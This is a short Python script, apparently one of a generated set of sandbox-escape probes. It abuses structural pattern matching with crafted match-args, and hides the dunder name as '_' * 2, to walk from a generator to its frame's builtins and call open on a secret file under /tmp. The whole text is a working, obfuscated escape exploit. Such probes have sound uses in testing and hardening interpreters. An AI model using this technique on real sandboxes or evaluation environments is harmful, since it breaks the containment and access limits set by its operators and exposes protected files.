# family: typedict (written blind, second set)
import collections.abc
import numbers
import types

U = "_" * 2


def _probe(*fields):
    cls = types.new_class("Probe", (numbers.Number,), {}, lambda ns: ns.update({U + "match_args" + U: fields}))
    cls.register(collections.abc.Hashable)
    return cls


def run(xs: list[int]) -> str:
    g = (x for x in xs)
    Gen, Frame = _probe("gi_frame"), _probe("f_builtins")
    match g:
        case Gen(Frame(table)):
            return table["open"]("/tmp/r10/work/blind_secret.txt").read()
    return ""


print(run([1]))
